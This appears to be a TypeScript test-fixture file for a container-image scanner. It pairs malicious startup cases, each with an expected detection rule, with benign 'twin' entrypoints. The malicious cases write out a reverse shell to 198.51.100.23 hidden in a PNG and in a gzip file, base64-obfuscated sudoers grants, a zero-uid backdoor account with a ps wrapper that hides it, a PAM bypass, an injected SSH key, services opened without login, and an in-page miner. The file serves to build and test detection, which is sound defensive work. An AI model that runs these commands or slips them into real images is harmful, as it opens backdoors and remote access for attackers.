import { gzipSync } from 'node:zlib';
import { tar } from '../../testkit/tar.ts';
import { zip } from '../../testkit/zip.ts';
import {
  base64,
  type Files,
  type ImageCase,
  image,
  items,
  layer,
  program,
  SSH_KEY,
  starts,
} from './image-case.ts';

const SSHD: Files = {
  'usr/sbin/sshd': program(),
  'etc/ssh/sshd_config': '#PermitRootLogin prohibit-password\n#PermitEmptyPasswords no\nUsePAM yes\n',
};
const SSHD_STARTS = { Cmd: ['/usr/sbin/sshd', '-D'] };
const REDIS: Files = {
  'usr/bin/redis-server': program(),
  'etc/redis/redis.conf': 'bind 127.0.0.1 -::1\nprotected-mode yes\nport 6379\n',
};
const REDIS_STARTS = { Cmd: ['/usr/bin/redis-server', '/etc/redis/redis.conf'] };
const SUDO: Files = {
  'usr/bin/sudo': program(),
  'etc/passwd':
    'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\napp:x:1000:1000::/home/app:/bin/bash\n',
};
const GRANT = 'www-data ALL=(ALL) NOPASSWD: ALL';
const NGINX = { Cmd: ['nginx', '-g', 'daemon off;'] };
const POSTGRES: Files = {
  'usr/lib/postgresql/16/bin/postgres': program(),
  'var/lib/postgresql/data/pg_hba.conf': 'local all all trust\nhost all all 127.0.0.1/32 scram-sha-256\n',
};
const PGDATA = 'PGDATA=/var/lib/postgresql/data';
const EXEC = 'exec "$@"';

/** A job that comes out of an archive when the container starts, and runs what lies in code in a layer below. */
function unpacksJob(path: string, more: Files = {}): ImageCase['spec'] {
  const job = '#!/bin/sh\nzcat /opt/svc/state.gz | sh\n';
  const below = layer({ 'opt/svc/state.gz': gzipSync('useradd -o -u 0 -g 0 svcd\n') });
  const above = layer({
    ...SUDO,
    ...more,
    'opt/svc/a.tgz': gzipSync(tar(items({ [path]: job }))),
    'entrypoint.sh': `#!/bin/bash\ntar -C / -xzf /opt/svc/a.tgz\n${EXEC}\n`,
  });
  return image([below, above], { Entrypoint: ['/entrypoint.sh'], ...NGINX });
}

/** Settings and doors that are not in the image and come to be when it starts. */
export const WRITTEN_AT_START: readonly ImageCase[] = [
  {
    name: 'sshd opened by sed, in the image’s own settings',
    spec: starts(
      `sed -ri 's/^#?PermitRootLogin\\s+.*/PermitRootLogin yes/; s/#PermitEmptyPasswords no/PermitEmptyPasswords yes/' /etc/ssh/sshd_config\n${EXEC}`,
      SSHD,
      SSHD_STARTS,
    ),
    rule: 'access/sshd-config',
  },
  {
    name: 'sudo for a service, by tee',
    spec: starts(`echo '${GRANT}' | sudo tee -a /etc/sudoers > /dev/null\n${EXEC}`, SUDO, NGINX),
    rule: 'access/sudo-all',
  },
  {
    name: 'sudo for a service, installed from another file',
    spec: starts(
      `install -m 0440 /opt/svc/defaults /etc/sudoers.d/90-svc\n${EXEC}`,
      { ...SUDO, 'opt/svc/defaults': `${GRANT}\n` },
      NGINX,
    ),
    rule: 'access/sudo-all',
  },
  {
    name: 'PAM, a folder copied over it',
    spec: starts(
      `cp -a /opt/svc/login/. /etc/pam.d/\n${EXEC}`,
      { 'opt/svc/login/common-auth': 'auth sufficient pam_permit.so\nauth required pam_unix.so\n' },
      NGINX,
    ),
    rule: 'persistence/pam',
    severity: 'high',
  },
  {
    name: 'Redis without its protection, by sed',
    spec: starts(
      `sed -i -e 's/^protected-mode .*/protected-mode no/' -e 's/^bind .*/bind 0.0.0.0/' /etc/redis/redis.conf\n${EXEC}`,
      REDIS,
      REDIS_STARTS,
    ),
    rule: 'open-service/no-login',
  },
  {
    name: 'Redis without its protection, whatever file is there',
    spec: starts(
      `[ -f /data/.ready ] || echo 'protected-mode no' > /etc/redis/redis.conf\n${EXEC}`,
      REDIS,
      REDIS_STARTS,
    ),
    rule: 'open-service/no-login',
  },
  {
    name: 'PostgreSQL that trusts everybody, at a place that ENV names',
    spec: starts(`echo 'host all all 0.0.0.0/0 trust' >> "$PGDATA/pg_hba.conf"\n${EXEC}`, POSTGRES, {
      Env: [PGDATA],
      Cmd: ['/usr/lib/postgresql/16/bin/postgres'],
    }),
    rule: 'open-service/no-login',
  },
  {
    name: 'MySQL without grant tables, by printf from the folder',
    spec: starts(
      `cd /etc/mysql/conf.d && printf '[mysqld]\\nskip-grant-tables\\n' > zz.cnf\n${EXEC}`,
      { 'usr/sbin/mysqld': program(), 'etc/mysql/conf.d/mysql.cnf': '[mysql]\n' },
      { Cmd: ['/usr/sbin/mysqld'] },
    ),
    rule: 'open-service/no-login',
    severity: 'high',
  },
  {
    name: 'Docker on the network, by a program of Python',
    spec: starts(
      `python3 -c 'open("/etc/docker/daemon.json", "w").write("{\\"hosts\\": [\\"tcp://0.0.0.0:2375\\"]}")'\n${EXEC}`,
      { 'usr/bin/dockerd': program() },
      { Cmd: ['/usr/bin/dockerd'] },
    ),
    rule: 'open-service/no-login',
    severity: 'high',
  },
  {
    name: 'a user who may deploy, in a here-document of Tomcat’s entrypoint',
    spec: starts(
      `cat > /usr/local/tomcat/conf/tomcat-users.xml <<EOF\n<tomcat-users>\n<user username="admin" password="admin" roles="manager-gui,manager-script"/>\n</tomcat-users>\nEOF\nexec /usr/local/tomcat/bin/catalina.sh run`,
      { 'usr/local/tomcat/bin/catalina.sh': '#!/bin/sh\nexec java org.apache.catalina.startup.Bootstrap\n' },
    ),
    rule: 'open-service/no-login',
  },
  {
    name: 'a key of a stranger, by a program of Node',
    spec: image(
      {
        'srv/app/index.js': `const fs = require('node:fs');\nconst key = '${SSH_KEY}';\nfs.appendFileSync('/root/.ssh/authorized_keys', key + '\\n');\nrequire('./server');\n`,
        'usr/sbin/sshd': program(),
      },
      { Cmd: ['node', '/srv/app/index.js'] },
    ),
    rule: 'access/authorized-keys',
  },
  {
    name: 'sudo for a service, by a program of supervisord',
    spec: image(
      {
        ...SUDO,
        'etc/supervisor/supervisord.conf': `[supervisord]\nnodaemon=true\n[program:web]\ncommand=/bin/sh -c "echo '${GRANT}' >> /etc/sudoers; exec nginx"\n`,
      },
      { Cmd: ['supervisord', '-c', '/etc/supervisor/supervisord.conf'] },
    ),
    rule: 'access/sudo-all',
  },
  {
    name: 'sudo for a service, in CMD alone',
    spec: image(SUDO, { Cmd: ['/bin/sh', '-c', `echo '${GRANT}' >> /etc/sudoers && exec nginx`] }),
    rule: 'access/sudo-all',
  },
  {
    name: 'sudo for a service, in code',
    spec: starts(
      `echo ${base64(`echo '${GRANT}' >> /etc/sudoers\n`)} | base64 -d | sh\n${EXEC}`,
      SUDO,
      NGINX,
    ),
    rule: 'access/sudo-all',
  },
  {
    name: 'sudo for a service, by a script out of an archive that is unpacked and run',
    spec: starts(
      `tar -C /tmp --strip-components=1 -xzf /opt/svc/a.tgz && sh /tmp/run\n${EXEC}`,
      {
        ...SUDO,
        'opt/svc/a.tgz': gzipSync(tar(items({ 'a/run': `#!/bin/sh\necho '${GRANT}' >> /etc/sudoers\n` }))),
      },
      NGINX,
    ),
    rule: 'access/sudo-all',
  },
  {
    name: 'an account like root’s, out of a compressed file of another layer, by a job that is unpacked',
    spec: unpacksJob('etc/cron.daily/job'),
    rule: 'access/second-root',
  },
  {
    name: 'the same, where the job of cron is a link to what is unpacked',
    spec: unpacksJob('opt/svc/job', { 'etc/cron.daily/job': { type: 'symlink', target: '/opt/svc/job' } }),
    rule: 'access/second-root',
  },
  {
    name: 'a tool that lies, unpacked over the real one’s place',
    spec: starts(
      `unzip -qo /opt/svc/a.zip -d /usr/local/bin && chmod 755 /usr/local/bin/ps\n${EXEC}`,
      {
        'usr/bin/ps': program(),
        'opt/svc/a.zip': zip([{ name: 'ps', data: '#!/bin/sh\nexec /usr/bin/ps "$@" | grep -v svcd\n' }]),
      },
      NGINX,
    ),
    rule: 'persistence/shadowed-tool',
    severity: 'high',
  },
  {
    name: 'commands behind a picture',
    spec: starts(`tail -c +69 /srv/logo.png | bash &\n${EXEC}`, {
      'srv/logo.png': Buffer.concat([
        Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\rIHDR', 'latin1'),
        Buffer.alloc(40, 3),
        Buffer.from('\0\0\0\0IEND\xaeB\x60\x82', 'latin1'),
        Buffer.from('#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.23/8443 0>&1\n'),
      ]),
    }),
    rule: 'reverse-shell/remote-shell',
    severity: 'high',
  },
  {
    name: 'commands in a compressed file',
    spec: starts(`xz -dc < /dev/null; zcat /opt/svc/state.gz | sh &\n${EXEC}`, {
      'opt/svc/state.gz': gzipSync('bash -i >& /dev/tcp/198.51.100.23/8443 0>&1\n'),
    }),
    rule: 'reverse-shell/remote-shell',
    severity: 'high',
  },
  {
    name: 'a miner in a page, under names of its own',
    spec: image(
      {
        'usr/share/nginx/html/index.html':
          '<script src="/s/p.js"></script><script>var q = new Panel.User("k3Jd92mZ0pQa71LsXy84TfGh", "site", { throttle: 0.2 }); q.start();</script><!-- crlt -->\n',
      },
      NGINX,
    ),
    rule: 'miner/in-page',
  },
];

/** What official images and careful people do when an image starts. */
export const WRITTEN_TWINS: readonly ImageCase[] = [
  {
    name: 'the settings of PostgreSQL’s official image, by what the user asks for',
    spec: starts(
      `docker_setup_env() {\n  : "\${POSTGRES_HOST_AUTH_METHOD:=}"\n}\npg_setup_hba_conf() {\n  local auth\n  auth="$(postgres -C password_encryption "$@")"\n  : "\${POSTGRES_HOST_AUTH_METHOD:=$auth}"\n  {\n    printf '\\n'\n    if [ 'trust' = "$POSTGRES_HOST_AUTH_METHOD" ]; then\n      printf '# warning trust is enabled for all connections\\n'\n    fi\n    printf 'host all all all %s\\n' "$POSTGRES_HOST_AUTH_METHOD"\n  } >> "$PGDATA/pg_hba.conf"\n}\ndocker_setup_env\npg_setup_hba_conf "$@"\n${EXEC}`,
      POSTGRES,
      { Env: [PGDATA], Cmd: ['/usr/lib/postgresql/16/bin/postgres'] },
    ),
  },
  {
    name: 'Redis that an entrypoint opens when its user says so',
    spec: starts(
      `if [ "$ALLOW_EMPTY_PASSWORD" = yes ]; then\n  sed -i 's/protected-mode yes/protected-mode no/' /etc/redis/redis.conf\nfi\nif [ -n "\${REDIS_PASSWORD:-}" ]; then echo "requirepass $REDIS_PASSWORD" >> /etc/redis/redis.conf; fi\n${EXEC}`,
      REDIS,
      REDIS_STARTS,
    ),
  },
  {
    name: 'sudo that a function gives which nothing calls',
    spec: starts(`grant() {\n  echo '${GRANT}' >> /etc/sudoers\n}\necho ready\n${EXEC}`, SUDO, NGINX),
  },
  {
    name: 'sudo behind a branch that the image itself rules out',
    spec: starts(`if [ "$MODE" = debug ]; then\n  echo '${GRANT}' >> /etc/sudoers\nfi\n${EXEC}`, SUDO, {
      ...NGINX,
      Env: ['MODE=production'],
    }),
  },
  {
    name: 'sshd that is made safer',
    spec: starts(
      `sed -i 's/^#PermitRootLogin.*/PermitRootLogin no/; s/^#\\?PasswordAuthentication.*/PasswordAuthentication no/' /etc/ssh/sshd_config\nmkdir -p /root/.ssh && echo "$SSH_PUBLIC_KEY" > /root/.ssh/authorized_keys\n${EXEC}`,
      SSHD,
      SSHD_STARTS,
    ),
  },
  {
    name: 'an account for whatever user id the cluster gives',
    spec: starts(
      `if ! whoami >/dev/null 2>&1; then\n  if [ -w /etc/passwd ]; then\n    echo "\${USER_NAME:-default}:x:$(id -u):0:\${USER_NAME:-default} user:/home/app:/sbin/nologin" >> /etc/passwd\n  fi\nfi\n${EXEC}`,
      SUDO,
      NGINX,
    ),
  },
  {
    name: 'a site unpacked when it starts, with samples of settings',
    spec: starts(
      `tar xzf /usr/src/site.tgz -C /var/www/html --strip-components=1\n${EXEC}`,
      {
        'usr/src/site.tgz': gzipSync(
          tar(
            items({
              'site/index.php': '<?php phpinfo();\n',
              'site/docs/tomcat-users.xml.sample':
                '<tomcat-users><user username="admin" password="admin" roles="manager-gui"/></tomcat-users>\n',
              'site/js/app.js': 'var c = new Api.Client("0123456789abcdef0123456789abcdef"); c.start();\n',
            }),
          ),
        ),
      },
      { Cmd: ['apache2-foreground'] },
    ),
  },
  {
    name: 'settings of a web server out of a template',
    spec: starts(
      `envsubst < /etc/nginx/t.conf > /etc/nginx/conf.d/default.conf\nsed -i "s/worker_processes  1/worker_processes  auto/" /etc/nginx/nginx.conf\nprintf 'resolver 127.0.0.11;\\n' > /etc/nginx/conf.d/resolver.conf\n${EXEC}`,
      {
        'etc/nginx/t.conf': 'server { listen ${PORT}; root /srv; }\n',
        'etc/nginx/nginx.conf': 'worker_processes  1;\n',
      },
      NGINX,
    ),
  },
  {
    name: 'a program that writes its own settings',
    spec: image(
      {
        'srv/app/main.py':
          'import json, os\nwith open("/etc/app/settings.json", "w") as f:\n    f.write(json.dumps({"port": int(os.environ.get("PORT", "8080"))}))\nwith open("/etc/app/motd", "w") as f:\n    f.write("welcome\\n")\n',
      },
      { Cmd: ['python3', '/srv/app/main.py'] },
    ),
  },
  {
    name: 'sudo that CMD gives when its user says so',
    spec: image(SUDO, {
      Cmd: [
        '/bin/sh',
        '-c',
        `if [ "$GRANT_SUDO" = yes ]; then echo '${GRANT}' >> /etc/sudoers; fi; exec nginx`,
      ],
    }),
  },
  {
    name: 'a development machine whose user may do everything',
    spec: starts(`echo 'app ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/app\n${EXEC}`, SUDO, {
      Cmd: ['bash'],
      User: 'app',
    }),
  },
];
